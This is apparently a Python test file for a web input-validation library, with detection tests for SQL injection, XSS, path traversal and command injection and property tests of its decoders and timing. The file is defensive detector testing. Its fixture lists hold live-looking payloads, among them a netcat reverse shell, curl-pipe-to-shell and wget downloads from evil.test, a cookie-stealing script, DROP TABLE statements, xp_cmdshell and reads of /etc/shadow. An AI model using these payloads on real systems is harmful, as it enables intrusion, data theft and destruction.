"""The detection engine on its own: decoders, each detector, totality and bounded time.

The cases are written for these tests (not taken from the benchmark corpora), so they check
that the detectors generalise: each attack class in several encodings and contexts, and the
benign look-alikes real users type.
"""

from __future__ import annotations

import re
import time
import unicodedata
from unittest import mock

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hardpoint.validation import Detector, scan
from hardpoint.validation._decode import decode, percent_decode
from hardpoint.validation._engine import detect
from hardpoint.validation._html import xss_reason
from hardpoint.validation._path import traversal_reason
from hardpoint.validation._shell import _COMMAND_NAMES as _SHELL_COMMAND_NAMES
from hardpoint.validation._shell import command_reason
from hardpoint.validation._sql import _lex, sql_reason

SQLI = [
    "' OR '1'='1",
    "admin'--",
    "x' or 1=1 -- -",
    '" or ""="',
    "1 OR 1=1",
    "-7 UNION ALL SELECT username, password FROM accounts--",
    "1) UNION SELECT NULL,NULL,version()#",
    "'; DROP TABLE invoices; --",
    "1; DELETE FROM sessions WHERE 1=1",
    "') AND SLEEP(4) AND ('x'='x",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0",
    "1' AND extractvalue(1, concat(0x7e, (SELECT user()))) -- ",
    "1;WAITFOR DELAY '0:0:7'--",
    "x' UNION/**/SELECT/**/card_no/**/FROM/**/payments#",
    "1%27%20OR%201%3D1--",  # percent-encoded once more than the app decodes
    "' || (SELECT pg_sleep(3)) || '",
    "99 AND ASCII(SUBSTRING((SELECT secret FROM vault LIMIT 1),1,1))>64",
    "'; EXEC master..xp_cmdshell 'whoami'--",
    "1 OR 42=42",
    "' OR user_id IS NOT NULL --",
    "x' AND name ILIKE name--",
    "7 EXCEPT SELECT token FROM api_keys",
    "DROP audit_log;--",
    "demo' OR 5=",  # the application's closing quote completes the comparison
    "1) FROM accounts WHERE role='admin'",
    "x' OR column && '1",
    "1--",
    "(SELECT id-0 FROM users LIMIT 1,1)",
    "1'--sp_password",
    "1%A0UNION%A0SELECT%A0password%A0FROM%A0users--",
    "id'NOT LIKE id--",
    "x' OR current_date*0",
    "-1#c\nUNION#d\n#",  # comments hide the UNION from line-based filters
]
XSS = [
    "<script>fetch('//evil.test/?c='+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    '"><svg/onload=confirm(7)>',
    "<a href=\"javascript:alert('hi')\">click</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253Dprompt(2)%253E",
    "&lt;script&gt;alert(3)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(4)\uff1c/script\uff1e",  # full-width brackets
    "' onmouseover='alert(5)",
    '<div style="width: expression(alert(6))">',
    "<body background=\"javascript:alert('bg')\">",
    "javascript:alert(document.cookie)",
    "<details open ontoggle=prompt(8)>",
    '<div style="background:\\0075\\0072\\006C\\0028javascript:alert(9)\\0029">',
    'x"scriptdocument.cookie=1;/script',
    '<v:vmlframe src="//evil.test/a.fml"/>',
]
PATH_TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "%252e%252e%252f%252e%252e%252fboot.ini",
    "..%c0%af..%c0%afetc/passwd",
    "..%u2216..%u2216secret.txt",
    "images/../../../../var/www/.htpasswd",
    "....//....//....//etc/hosts",
    "/etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/shadow",
    "..;/..;/admin",
    "%c0%ae%c0%ae/secret.txt",  # overlong dots: no client encodes text so
    "..%pc..%pcetc%pcpasswd",  # invalid escapes as separators
    "........etcpasswd",  # separators stripped by a filter
    "0x2e0x2e0x2fconfig.php",
    "%%32%%65%%32%%65/%%32%%65%%32%%65/app.db",  # IIS double-percent decoding
]
COMMAND_INJECTION = [
    "; cat /etc/passwd",
    "127.0.0.1 && whoami",
    "x | nc -e /bin/sh 10.0.0.9 4444",
    "$(curl http://evil.test/run.sh | sh)",
    "`id`",
    "name;${IFS}ls${IFS}-la",
    "a;w'h'o'a'm'i",
    "foo & type C:\\Windows\\win.ini",
    "|| ping -c 9 127.0.0.1",
    "() { :;}; /bin/bash -c 'id'",
    "test\nuname -a",
    "; /usr/bin/wget http://evil.test/x -O /tmp/x",
    "a%0Aid",
    "& powershell -enc SQBFAFgA",
    "{cat,/etc/passwd}",
    "a; systemctl stop auditd",
    "x && nmap 10.0.0.0/24",
    "pi``ng -c 3 10.0.0.1",  # an empty expansion inside the command name
    "strace whoami",
    "sqlmap -u http://victim.test/?id=1",
    "alias ls='rm -rf ~'",
    ":set shell=/bin/sh \\!whoami",
    "bash <(curl -s http://evil.test/i.sh)",  # process substitution: no "$", no backtick
    "wc -l <(ls /root)",
]
BENIGN = [
    "O'Brien",
    "D'Arcy-Smith",
    "van 't Hof",
    "It's a lovely day, isn't it?",
    "Please select a size and drop me a line; thanks!",
    "Union Street 12, Apt. 3",
    "Tom & Jerry",
    "Rock 'n' roll -- the best music",
    "I <3 my cat",
    "a < b and c > d",
    "<b>Bold</b> and <i>italic</i> text",
    '<a href="https://example.com/docs">docs</a>',
    "x = 1 or y = 2",
    "1=1",
    "Select the items from the list, then update your cart.",
    "We need to drop the old table and create a new one for the party.",
    "Where is the order I placed on 3/4?",
    "C:\\Users\\ana\\Documents\\report (final).docx",
    "docs/../img/logo.png",
    "https://example.com/search?q=union+jack&page=2",
    "Wait... what?",
    "50% off -- today only!",
    "My email is ana.o'neil@example.ie",
    "Ships in 2-3 days; tracking number #4417",
    "Call me at +1 (555) 010-2234",
    "The cat sat on the mat",
    "sleep 8 hours a night",
    "Java: the good parts",
    'He said "yes" and she said "no"',
    "Total: $19.99 (incl. VAT)",
    "I'm 5'10\" tall",
    "café crème brûlée",
    "Müller & Söhne GmbH",
    "东京都港区",
    "Email: <ana@example.com>",
    "README.md, setup.py and LICENSE",
    "what's 2+2? 4!",
    "if-then-else",
    "Ping me when you're done",
    "Let's meet at 10:30; bring the slides",
    "(90h8VeTg%Fabh",  # a generated password with a percent sign
    "Save 100%; code C0FFEE",
    "Everything except select members of staff",
    "Please drop the ball; it's fine",
    "Meet me (where?) at noon; screen time is over",
    "sudo apt-get install texlive",  # an installation guide, not an injection
    "Markdown needs \\! before a bang",
    "34 -- 85",  # arithmetic
    "I 'like' it",
    "Meet at the cafe; at 10:30 sharp",
    "I am mad >(who cares)",  # an angry face, not a process substitution
    "love you <(3",
]


ATTACKS = [
    *((Detector.SQLI, value) for value in SQLI),
    *((Detector.XSS, value) for value in XSS),
    *((Detector.PATH_TRAVERSAL, value) for value in PATH_TRAVERSAL),
    *((Detector.COMMAND_INJECTION, value) for value in COMMAND_INJECTION),
]


@pytest.mark.parametrize(
    ("rule", "value"), ATTACKS, ids=[f"{r}-{i}" for i, (r, _) in enumerate(ATTACKS)]
)
def test_attacks_are_detected_as_their_class(rule: Detector, value: str) -> None:
    finding = scan(value)
    assert finding is not None, value
    assert finding.rule is rule, (value, finding)


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_pass(value: str) -> None:
    assert scan(value) is None


def test_each_detector_can_be_switched_off() -> None:
    cases = {
        Detector.SQLI: SQLI[0],
        Detector.XSS: XSS[0],
        Detector.PATH_TRAVERSAL: PATH_TRAVERSAL[0],
        Detector.COMMAND_INJECTION: COMMAND_INJECTION[0],
    }
    for detector, value in cases.items():
        assert detect(value, frozenset({detector})) is not None
        others = frozenset(Detector) - {detector}
        finding = detect(value, others)
        assert finding is None or finding.rule is not detector


def test_findings_never_copy_the_input() -> None:
    marker = "zq9secretzq9"
    finding = scan(f"' OR 1=1 -- {marker}")
    assert finding is not None
    assert marker not in repr(finding)


# -- decoders ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("%2e%2e%2f", "../"),
        ("%252e%252e%252f", "../"),  # double encoding
        ("%25252e", "."),  # triple
        ("%c0%ae%c0%af", "./"),  # overlong UTF-8
        ("%e0%80%ae", "."),  # three-byte overlong
        ("%c1%1c", "\\"),  # IIS: top bits of the second byte ignored
        ("%u002e%u2215", "./"),  # %u form and a division slash
        ("&#x3c;&#60;&lt;", "<<<"),
        ("\\x3cscript\\u003e", "<script>"),
        ("\uff1c\uff53\uff43\uff52\uff49\uff50\uff54", "<script"),  # full-width
        ("+ADw-script+AD4-", "<script>"),  # UTF-7
        ("caf%C3%A9", "café"),
        ("plain text", "plain text"),
    ],
)
def test_decode(raw: str, decoded: str) -> None:
    assert decode(raw) == decoded


def test_percent_decode_is_one_layer() -> None:
    assert percent_decode("%252e") == "%2e"
    assert percent_decode("100% sure") == "100% sure"


# -- detectors are total and bounded ---------------------------------------------------------

_RISKY = st.sampled_from(
    [
        "'",
        '"',
        "`",
        "<",
        ">",
        "/",
        "\\",
        "..",
        "%",
        "%2",
        "%c0",
        "&#",
        "&",
        ";",
        "|",
        "$(",
        "${",
        "{",
        "}",
        "(",
        ")",
        "[",
        "=",
        "--",
        "/*",
        "*/",
        "#",
        "@@",
        "on",
        "onerror=",
        "script:",
        "data:",
        "select ",
        "union ",
        "or ",
        "1",
        "x",
        " ",
        "\n",
        "\x00",
        "é",
        "\uff1c",
        "\ud800",  # a lone surrogate: JSON can carry one ("\\ud800")
        "%41",
        "sh -c",
        "cmd",
        "if ",
        "0x",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(exclude_categories=()), max_size=300))  # surrogates too
def test_every_function_is_total_on_any_text(value: str) -> None:
    decoded = decode(value)
    assert isinstance(decoded, str)
    for check in (sql_reason, xss_reason, traversal_reason, command_reason):
        reason = check(decoded.lower())
        assert reason is None or isinstance(reason, str)
    assert isinstance(_lex(decoded.lower()), list)
    finding = scan(value)
    assert finding is None or finding.rule in Detector


@settings(max_examples=300, deadline=None)
@given(st.lists(_RISKY, max_size=80).map("".join))
def test_every_function_is_total_on_attack_fragments(value: str) -> None:
    for check in (sql_reason, xss_reason, traversal_reason, command_reason):
        check(decode(value).lower())
    scan(value)


@settings(max_examples=60, deadline=None)
@given(st.lists(_RISKY, min_size=1, max_size=4))
def test_time_is_bounded_on_long_repetitive_input(atoms: list[str]) -> None:
    """10,000 characters of any repeated fragment: linear work, far from a regex blow-up.

    The bound is loose (a shared CI machine); a quadratic pattern takes seconds here.
    """
    value = ("".join(atoms) * 10_000)[:10_000]
    started = time.perf_counter()
    scan(value)
    for check in (decode, sql_reason, xss_reason, traversal_reason, command_reason):
        check(value.lower())
    assert time.perf_counter() - started < 0.5, atoms


@pytest.mark.parametrize(
    "value",
    [
        "system('echo " + "X" * 9_000 + "')",  # every start rescanned the run looking for "("
        "." * 10_000,  # every start of a dot run rescanned it looking for "etc"
        "%c0%ae" * 1_666,
        "on" * 5_000,  # a handler name's letter run rescanned from every "on"
        "onx" * 3_333,
        "<a " * 3_333,
    ],
    ids=["run-before-paren", "dot-run", "overlong-run", "on-run", "onx-run", "open-tags"],
)
def test_time_is_bounded_on_runs_that_were_once_quadratic(value: str) -> None:
    started = time.perf_counter()
    scan(value)
    for check in (decode, sql_reason, xss_reason, traversal_reason, command_reason):
        check(value.lower())  # each detector on its own too: scan() skips some for plain letters
    assert time.perf_counter() - started < 0.5


_ENTITY_TEXT = st.lists(
    st.sampled_from(["&", "#", "x", "3c", ";", "amp", "lt", "frac12", "sup2", "'", " ", "é", "9"])
    | st.text(max_size=3),
    max_size=30,
).map("".join)


@given(_ENTITY_TEXT)
def test_the_gated_entity_decoder_matches_the_standard_library(value: str) -> None:
    import html

    from hardpoint.validation._decode import _html_unescape_settled

    assert _html_unescape_settled(value)[0] == html.unescape(value)


@given(
    st.text(alphabet=st.sampled_from("stylexpronubhavi( \\ULSTE"), max_size=30)
    | st.text(alphabet=st.sampled_from("stylexpronubhavi( \\ULSTE"), min_size=600, max_size=900)
)
def test_the_gated_css_context_check_matches_the_case_blind_pattern(value: str) -> None:
    import re

    from hardpoint.validation._decode import _css_context

    blind = re.compile(r"style|expression|url\s*\(|behavio", re.IGNORECASE)
    assert _css_context(value) == (blind.search(value) is not None)


# The separators as one regular expression: what the fast split must agree with.
_SEPARATORS_REFERENCE = re.compile(r"[;|&\n\r`]+|\$\(|\(\s*\)\s*\{|%0a|\\[nr]|\{\s*:\s*;\s*\}")


@given(st.lists(st.sampled_from(list(";|&\n\r`$(){}:% 0a\\nrx")), max_size=40).map("".join))
def test_the_fast_command_split_matches_the_separator_regex(value: str) -> None:
    from hardpoint.validation._shell import _split_commands

    expected = [p for p in _SEPARATORS_REFERENCE.split(value) if p]
    assert [p for p in _split_commands(value) if p] == expected


@given(st.text(alphabet=st.sampled_from(list(";|&\n\r`\\\x00\t\x0b\x0c ab/é")), max_size=40))
def test_replace_chars_is_translate(value: str) -> None:
    from hardpoint.validation import _html, _path, _shell
    from hardpoint.validation._text import replace_chars

    for table, pairs in (
        (_shell._SEPARATOR_TABLE, _shell._SEPARATOR_PAIRS),
        (_html._SCHEME_NOISE, _html._SCHEME_NOISE_PAIRS),
        (_path._SEPARATORS, _path._SEPARATOR_PAIRS),
    ):
        assert replace_chars(value, table, pairs) == value.translate(table)


# Characters whose lower case is special: the capital sigma (final or not by its context),
# the dotted capital I (two characters), the Kelvin sign (an ASCII "k"), the long s, a lone
# surrogate, and ones lower() keeps.
_WIDE_CHARS = st.sampled_from(
    [*"\u03a3\u0130\u212a\u017f\ud800\u00c9\u00e9\u2019\u4e2d", "\U0001f600"]
)


@given(
    st.lists(
        st.sampled_from([*"AbZ \n.", "ASCII text ", "Ab" * 40]) | _WIDE_CHARS | st.characters(),
        max_size=60,
    ),
    st.integers(min_value=1, max_value=40),
)
def test_lower_is_str_lower(pieces: list[str], repeat: int) -> None:
    """Short and long, few characters past ASCII (the bytes way) and many (str.lower)."""
    from hardpoint.validation._text import lower

    text = "".join(pieces) * repeat
    for value in (text, text.rjust(600, "Q"), text.ljust(600, "Q") + text):
        assert lower(value) == value.lower()


_SHELLISH = st.sampled_from(
    [";", "|", "&&", "\n", "`", "$(", "${IFS}", "$@", "'", '"', "\\", "^", "+", " ", " -", "(", ")",
     "{", "}", "cat", "c'a't", "who", "ami", "w", "ls", "id", "/bin/", "usr/", "sh", "-c", "x",
     "the", "strace", "sleep 5", "net", "user", "ping", "%0a", "\\n", "$a ", "9", "é"]
)  # fmt: skip


_GATE_ATOMS = _SHELLISH | st.sampled_from(
    ["ll", "lls", "_ls", "ls.", "-id", "\t", "@", "$a+", "${b}", "$9", "$*", "$()", "\u00b2", "_",
     ".", "-", "\x0b", "$", "{$", "+cat", "(@{", "\\^w", "$ab$c ", "$abcat", "+whoami", "+strace ",
     "$a+whoami"]
) | st.sampled_from(sorted(_SHELL_COMMAND_NAMES))  # fmt: skip


@settings(max_examples=400)
@given(
    st.lists(st.lists(_GATE_ATOMS, max_size=12).map("".join), min_size=1, max_size=8)
    | st.lists(st.lists(_GATE_ATOMS, max_size=60).map("".join), min_size=1, max_size=3)
)
def test_the_naming_gate_holds_every_part_a_command_starts(parts: list[str]) -> None:
    """Where `_command_at` finds a command, in either mode, the gate lets the part through."""
    from hardpoint.validation import _shell

    # Parts as command_reason makes them: split at the separators, so they hold none.
    parts = "\x1f".join(parts).translate(_shell._SEPARATOR_TABLE).split("\x1f")
    named = _shell._parts_naming_commands(parts, "\x1f".join(parts))
    if named is None:
        return  # a path command: every part is looked at
    for index, part in enumerate(parts):
        for separated in (True, False):
            if _shell._command_at(part, separated=separated) is not None:
                assert index in named


@settings(max_examples=300)
@given(st.lists(_SHELLISH, max_size=120).map("".join))
def test_the_command_gate_never_changes_the_verdict(value: str) -> None:

    from hardpoint.validation import _shell

    low = value.lower()
    expected = command_reason(low, gate=False)
    assert command_reason(low) == expected
    with mock.patch.object(_shell, "_GATE_MIN_PARTS", 0):  # the gate on every input
        assert command_reason(low) == expected


@given(st.text(alphabet=st.sampled_from(list("%%%0123456789abcdefABCDEFgz é\u00ff")), max_size=40))
def test_the_run_unquote_matches_the_standard_library(value: str) -> None:
    import urllib.parse

    from hardpoint.validation._decode import _unquote_to_bytes

    assert _unquote_to_bytes(value) == urllib.parse.unquote_to_bytes(value)


_BYTE_SEQUENCES = st.lists(
    st.binary(max_size=3)
    | st.sampled_from(
        [
            *(b"\xc0\xae", b"\xc1\x9c", b"\xc1\xaf", b"\xdf\xbf", b"\xc0", b"\xe0\x80\xae"),
            *(b"\xed\xa0\x80", b"\xf0\x80\x80\xae", b"\xf8\x80\x80\x80\xae", b"\xa0"),
            *(b"\xfc\x80\x80\x80\x80\xaf", b"\xc0\x1c", b"\xc1\xee", "é中😀".encode(), b"a"),
        ]
    ),
    max_size=16,
).map(b"".join)


@given(st.binary(max_size=40) | _BYTE_SEQUENCES)
def test_the_table_fold_matches_the_loop_over_each_run(raw: bytes) -> None:
    """`_fold_bytes` (a split and a table) folds as the loop did over each non-ASCII run."""
    from hardpoint.validation import _decode

    runs = re.split(rb"([\x80-\xff]+[\x00-\x7f]?)", raw)  # the runs the loop was given
    expected = "".join(
        part.decode("ascii") if part.isascii() else _decode._fold_loop(part) for part in runs
    )
    assert _decode._fold_bytes(raw) == expected
    assert _decode._fold_loop(raw) == expected  # and as the loop over the whole


# Whole characters and the sequences a lenient decoder folds, for long byte strings: the
# C-speed decode with only the undecodable runs folded, both ways of folding those runs,
# a DEL inside and beside them, and C0/C1 before a control character or a lead byte.
_FOLD_PIECES = [
    *(b"\xc0\xae", b"\xc1\x9c", b"\xc1\xaf", b"\xc1\xbf", b"\xdf\xbf", b"\xc0", b"\xc1"),
    *(b"\xe0\x80\xae", b"\xed\xa0\x80", b"\xf0\x80\x80\xae", b"\xf8\x80\x80\x80\xae"),
    *(b"\xfc\x80\x80\x80\x80\xaf", b"\xc0\x1c", b"\xc1\xee", b"\xa0", b"\x80", b"\xff"),
    *(b"\xe4\xb8", b"\xf0\x9f\x98", b"\x7f", b"\x01", b"\x1f", b"a", b" ", b"%"),
    *(ch.encode() for ch in "é中😀À\u0080\u00bfĀ\u07ff\u0800\uffff"),
]
_VALID_CHARS = [ch.encode() for ch in "éàü中文😀ÀĀ"]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(_FOLD_PIECES) | st.binary(max_size=3), max_size=60).map(b"".join)
    | st.lists(st.sampled_from(_FOLD_PIECES), min_size=200, max_size=1500).map(b"".join)
    | st.lists(
        st.sampled_from(_VALID_CHARS) | st.sampled_from(_FOLD_PIECES), min_size=300, max_size=1500
    ).map(b"".join)
)
def test_the_fold_of_long_bytes_matches_the_loop(raw: bytes) -> None:
    """Folding only what the codec cannot decode gives what folding every byte gives."""
    from hardpoint.validation import _decode

    assert _decode._fold_bytes(raw) == _decode._fold_loop(raw)


def _percent_decode_reference(value: str) -> str:
    """One layer of %XX and %uXXXX escapes as one byte stream, folded by the plain loop.

    Text without a "%" is not percent-encoded: it comes back as it is.
    """
    from hardpoint.validation import _decode

    if "%" not in value:
        return value
    raw = bytearray()
    pos = 0
    for match in re.finditer(r"%(?:[uU]([0-9a-fA-F]{4})|([0-9a-fA-F]{2}))", value):
        raw += value[pos : match.start()].encode("utf-8", "surrogatepass")
        wide, byte = match.groups()
        if byte is not None:
            raw.append(int(byte, 16))
        else:
            raw += chr(int(wide, 16)).encode("utf-8", "surrogatepass")
        pos = match.end()
    raw += value[pos:].encode("utf-8", "surrogatepass")
    return _decode._fold_loop(bytes(raw))


_PERCENT_PIECES = [
    *("%", "%u", "%U", "%u002e", "%U002F", "%u2216", "%uD800", "%udc00", "%u00e9", "%u0025"),
    *("%2e", "%c0", "%c1", "%ae", "%af", "%bf", "%e0%80", "%7f", "%25", "%41", "%4", "2e"),
    *("é", "中", "😀", "\ud800", "\x7f", "\x01", "À", "a", " ", "/", "."),
]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(_PERCENT_PIECES), max_size=40).map("".join)
    | st.lists(st.sampled_from(_PERCENT_PIECES), min_size=200, max_size=1200).map("".join)
)
def test_percent_decoding_is_one_byte_stream_folded(value: str) -> None:
    """%XX and %uXXXX escapes and the text around them are decoded as one byte stream."""
    assert percent_decode(value) == _percent_decode_reference(value)


# The SQL token pattern as first written (alternatives in first-character order, quoted
# strings and comments one character per step, every comment a token): the fast pattern must
# give the lexer exactly the tokens it had, at the same places. The comments the lexer skips
# (a closed block comment, a line comment more text follows) the fast pattern skips itself,
# and it names the token of the trailing whitespace's last character "trail" ("trailword").
_SQL_TOKEN_REFERENCE = re.compile(
    r"""
    [\s\x00-\x1f]*(?:
    (?P<lcomment>--[^\n]*|\#[^\n]*)
  | (?P<bcomment>/\*(?:[^*]|\*(?!/))*(?:\*/|\Z))
  | (?P<sq>'(?:[^'\\]|\\.|'')*(?:'|\\?\Z))
  | (?P<dq>"(?:[^"\\]|\\.|"")*(?:"|\\?\Z))
  | (?P<bq>`[^`]*(?:`|\Z))
  | (?P<num>0x[0-9a-f]+|0b[01]+|(?:\d+\.?\d*|\.\d+)(?:e[+-]?\d+)?[df]?)
  | (?P<var>@@?[a-z0-9_$.]*)
  | (?P<word>[a-z_\u00c0-\uffff][a-z0-9_$\u00c0-\uffff]*(?:\.[a-z_*][a-z0-9_$]*)*)
  | (?P<op><=>|<>|!=|<=|>=|\|\||&&|::|:=|@>|<@|\?\||\?&|[=<>!+\-*/%&|^~])
  | (?P<punct>[(),;.])
  | (?P<other>.)
    )
    """,
    re.VERBOSE | re.DOTALL,
)
_SQL_ATOMS = st.sampled_from(
    ["'", "''", '"', '""', "\\", "\\'", "`", "/*", "*/", "*", "/", "--", "#", "\n", " ", "\t",
     "a", "or", "x.y", "@", "@@", "@>", "0x1f", "1.5e3", ".5", "1", "-", "(", ")", ",", ";", ".",
     "=", "<>", "|", "&&", "é", "\u2003", "\x00", "_", "$", "!"]
)  # fmt: skip


@settings(max_examples=1500)
@given(st.lists(_SQL_ATOMS, max_size=40).map("".join))
def test_the_fast_sql_token_pattern_lexes_as_the_reference(value: str) -> None:
    from hardpoint.validation._sql import _TOKEN

    def tokens(pattern: re.Pattern[str]) -> list[tuple[str, str, int]]:
        kept = []
        for match in pattern.finditer(value):
            group = match.lastgroup
            if group is None:
                continue  # a skip that reached the end
            text = match[group]
            if group == "bcomment" and text.endswith("*/"):
                continue  # closed: the lexer skips it (an open one swallows the rest)
            if group == "lcomment" and match.end() < len(value):
                continue  # more text follows: the lexer skips it
            group = {"trail": "other", "trailword": "word"}.get(group, group)
            kept.append((group, text, match.end()))
        return kept

    assert tokens(_TOKEN) == tokens(_SQL_TOKEN_REFERENCE)


@given(st.lists(st.sampled_from(list("'\"\\^ac9 -.é\x1f")), max_size=30).map("".join))
def test_the_word_noise_strip_matches_the_look_behind_pattern(value: str) -> None:
    from hardpoint.validation._shell import _strip_word_noise

    reference = re.compile(r"""(?<=[a-z0-9])(?:['"\\^]+)(?=[a-z0-9])|^['"\\^]+(?=[a-z])""")
    assert _strip_word_noise(value) == reference.sub("", value)


@given(st.text(alphabet=st.sampled_from(list("ab_1.( \t'\"é\u2003;")), max_size=60))
def test_a_call_name_needs_a_name_character_or_a_space_before_the_paren(value: str) -> None:
    from hardpoint.validation._sql import _CALL, _NAME_CHARS

    for paren in [i for i, char in enumerate(value) if char == "("]:
        before = value[paren - 1] if paren else ""
        if before not in _NAME_CHARS and not before.isspace():  # what _wants_anywhere skips
            assert _CALL.search(value, max(0, paren - 48), paren) is None


@given(
    st.lists(
        st.sampled_from(
            [
                *"<>/'\"a%&;é\u0338\u2039\u203a\u2019\ufb01\uff1c\ue000\u00bc\u00be\u0323\u2215",
                *"\u0334\u0301\u0327",  # another overlay mark, and marks that sort after U+0338
                *("%e2%80%b9", "%cc%b8", "&#x338;"),
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_decoding_skips_only_the_normalisations_that_change_nothing(value: str) -> None:
    """A round reuses the last NFKC result; normalising every round gives the same text."""
    from hardpoint.validation import _decode

    expected = value
    for _ in range(_decode._MAX_ROUNDS):
        # "" is never the text: always NFKC, always unescaped
        decoded, _, _ = _decode._one_round(expected, "")
        if decoded == expected:
            break
        expected = decoded
    assert decode(value) == expected


@given(st.text(max_size=50) | st.text(alphabet=st.characters(min_codepoint=0xD000), max_size=50))
def test_the_private_use_gate_never_hides_a_private_use_character(value: str) -> None:
    from hardpoint.validation import _decode

    assert _decode._may_hold_private_use(value) or _decode._PRIVATE_USE.search(value) is None


def test_private_use_characters_decode_to_a_slash_in_long_text_too() -> None:
    for char in ("\ue000", "\uefff", "\uf000", "\uf8ff"):
        assert decode(f"a{char}b") == "a/b"
        assert decode(("中文" * 300) + char) == ("中文" * 300) + "/"


def _round_without_latin1_path(value: str) -> tuple[str, str, str]:
    from hardpoint.validation import _decode

    with mock.patch.object(_decode, "_latin1_text", return_value=False):
        return _decode._one_round(value, "")


def test_latin1_text_normalises_as_nfkc_does_for_every_pair_of_characters() -> None:
    """Every Latin-1 character NFKC changes, beside every other, as the general path does."""
    from hardpoint.validation import _decode

    changed = [old for old, _ in _decode._LATIN1_NFKC]
    assert [hex(ord(c)) for c in changed] == [
        hex(code) for code in range(0x100) if unicodedata.normalize("NFKC", chr(code)) != chr(code)
    ]
    for first in map(chr, range(0x100)):
        for second in changed:
            for text in (first + second, second + first, second + first + second):
                assert _decode._one_round(text, "") == _round_without_latin1_path(text), text


_LATIN1_PIECES = st.sampled_from(
    [
        *(" \u0301", " \u0304", " \u0308", " \u0327", "\u03bc", "\u0301", "\u0308", "\u0327"),
        *("a", "e", " ", "\u00a8", "\u00b8", "\u00b4", "\u00af", "\u00b5", "\u00bd", "\u00aa"),
        *("é", "%", "%41", "%cc%81", "&#776;"),
        *("\u00a0", "\u0338", "<", "\u2039", "中", "\x00"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.characters(max_codepoint=0xFF), max_size=60)
    | st.text(alphabet=st.characters(max_codepoint=0xFF), min_size=2100, max_size=4000)
    | st.lists(_LATIN1_PIECES, max_size=40).map("".join)
    | st.lists(_LATIN1_PIECES, min_size=300, max_size=1500).map("".join)
)
def test_latin1_text_decodes_as_the_general_path_does(value: str) -> None:
    from hardpoint.validation import _decode

    assert _decode._one_round(value, "") == _round_without_latin1_path(value)


_SQL_PHRASE_ATOMS = st.sampled_from(
    [
        *("select", "union", "case", "when", "exec", "waitfor", "delay", "sys.", "pg_", "@@"),
        *("declare", "outfile", "mysql.user", "information_schema", "all", "from", "sleep"),
        *(" ", "  ", "\n", "(", ")", "*", "'", ";", "/*", "@", "1", "a", "x", "_", ".", "é"),
    ]
)


@settings(max_examples=400)
@given(st.lists(_SQL_PHRASE_ATOMS, max_size=30).map("".join), st.integers(0, 200))
def test_the_last_sql_phrase_is_where_the_pattern_last_matches(value: str, cut: int) -> None:
    """Found at the trigger words only, it answers the pattern's search in every suffix."""
    from hardpoint.validation._sql import _SQL_PHRASE, _last_phrase

    starts = [at for at in range(len(value)) if _SQL_PHRASE.match(value, at) is not None]
    last = _last_phrase(value)
    assert last == max(starts, default=-1)
    cut = min(cut, len(value))  # a quote context: the value after its quote at *cut*
    assert (last > cut) == (_SQL_PHRASE.search(value[cut + 1 :]) is not None)


@settings(max_examples=400)
@given(st.lists(st.sampled_from([*"ab_1.( \t\n'\"é\u2003;9z", "sleep", "x" * 30]), max_size=40))
def test_the_call_name_read_backwards_is_the_one_the_pattern_finds(atoms: list[str]) -> None:
    from hardpoint.validation._sql import _CALL, _call_name

    value = "".join(atoms)
    for paren in [i for i, char in enumerate(value) if char == "("]:
        call = _CALL.search(value, max(0, paren - 48), paren)
        assert _call_name(value, paren) == (call.group(1) if call is not None else "")


# The command-injection patterns as first written (led by \b or a character class, the engine
# tried a match at every position): the literal-led ones must find the same.
_PHP_CALL_REFERENCE = re.compile(
    r"\b(?:system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec)\s*\(\s*['\"$`]|"
    r"\bphpinfo\s*\(\s*\)"
)
_INNER_EXPANSION_REFERENCE = re.compile(r"[a-z0-9](?:``|\$\(\)|\$\{?[@*#?!0-9]\}?)(?:[a-z0-9]|\s)")
_SHELL_ATOMS = st.sampled_from(
    [
        *("system", "exec", "shell_exec", "pcntl_exec", "passthru", "popen", "proc_open"),
        *("phpinfo", "ls", "w", "id", "cat", "my", "x", "é", "_", "1", " ", "\t", "\x1f", "("),
        *(")", "'", '"', "$", "`", "``", "$()", "${@}", "$9", "{", "}", ";", "|", "\n", "-"),
    ]
)


@settings(max_examples=400)
@given(st.lists(_SHELL_ATOMS, max_size=30).map("".join))
def test_the_literal_led_shell_patterns_match_as_the_references(value: str) -> None:
    from hardpoint.validation._shell import _PHP_CALL, _inner_expansion

    assert (_PHP_CALL.search(value) is None) == (_PHP_CALL_REFERENCE.search(value) is None)
    assert _inner_expansion(value) == (_INNER_EXPANSION_REFERENCE.search(value) is not None)


# The shell patterns as one, led by a character class: the passes led by literals that
# replace them must leave the same text.
_BRACE_SEPARATORS_REFERENCE = re.compile(r"\(\s*\)\s*\{|\{\s*:\s*;\s*\}")
_EMPTY_EXPANSION_REFERENCE = re.compile(
    r"\$\{?[@*#?!$_0-9-]\}?(?![a-z(])|\$[@*#?!0-9]|``|\$\(\)|\$\{[a-z_][a-z0-9_]*:\d+:\d+\}"
)
_INNER_NOISE_REFERENCE = re.compile(r"""['"\\^](?<=[a-z0-9]['"\\^])['"\\^]*(?=[a-z0-9])""")
_NOISE_ATOMS = st.sampled_from(
    [
        *("$", "`", "``", "```", "$@", "$9", "$$", "${", "}", "{", "(", ")", "()", ":", ";", "1"),
        *("${x:1:2}", "$()", "$-", "$_", "$#", "'", '"', "\\", "^", "a", "b", "z", "9", " "),
